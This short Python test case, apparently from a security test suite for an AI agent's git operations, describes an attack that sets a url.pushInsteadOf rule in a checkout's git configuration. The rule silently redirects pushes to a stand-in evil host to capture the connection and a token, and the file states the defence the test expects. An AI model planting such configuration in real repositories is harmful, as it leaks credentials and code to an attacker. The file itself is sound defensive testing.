from pathlib import Path

from tests.attacks.git_world import Places, configure

TITLE = "The same for pushes alone"
TRIES = "url.<evil>.pushInsteadOf: a fetch shows nothing of it."
MUST_FAIL = (
    "Pushed with an explicit URL and no configuration of the agent's; the askpass checks the host."
)
GAINS = ("connection", "token")


def attack(checkout: Path, places: Places) -> None:
    configure(checkout, f"url.{places.evil}/.pushInsteadOf", "http://")
